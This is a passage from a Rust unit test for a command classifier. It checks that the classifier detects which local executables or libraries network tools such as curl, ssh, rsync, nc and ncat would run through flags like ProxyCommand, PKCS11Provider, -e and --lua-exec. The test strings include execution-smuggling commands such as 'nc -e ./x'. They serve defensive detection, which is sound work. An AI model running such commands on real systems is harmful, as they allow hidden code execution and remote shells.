            ("curl --engine pkcs11/x https://a.example", vec!["pkcs11/x"]),
            ("curl -d ./e.so https://a.example", vec![]),
            ("wget --use-askpass=./ask https://a.example/x", vec!["./ask"]),
            ("wget --use-ask ./ask https://a.example/x", vec!["./ask"]),
            ("ssh -I ./p.so h.example", vec!["./p.so"]),
            ("ssh -I./p.so h.example", vec!["./p.so"]),
            ("ssh -o ProxyCommand=./p h.example", vec!["./p"]),
            ("ssh -o 'ProxyCommand sh f %h' h.example", vec!["f"]),
            ("ssh -oPKCS11Provider=/w/p.so h.example", vec!["/w/p.so"]),
            ("ssh -o 'Port 22' h.example", vec![]),
            ("scp -S ./s f h.example:", vec!["./s"]),
            ("sftp -D ./server h.example", vec!["./server"]),
            ("sftp -o KnownHostsCommand=./k h.example", vec!["./k"]),
            ("rsync -e ./sh f h.example:", vec!["./sh"]),
            ("rsync --rsh='ssh -i k' f h.example:", vec![]),
            ("rsync -e 'bash ./go.sh' f h.example:", vec!["./go.sh"]),
            ("nc -e ./x h.example 1", vec!["./x"]),
            ("ncat --lua-exec x/y.lua h.example 1", vec!["x/y.lua"]),
        ] {
            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default()).effects.runs;
            let bare = |path: &str| path.trim_start_matches("./").to_owned();
            let (found, want): (Vec<String>, Vec<String>) =
                (found.iter().map(|path| bare(path)).collect(), want.into_iter().map(bare).collect());
            if found != want {
                mistakes.push(format!("{command}: {found:?}"));
            }
        }
        assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    }
}
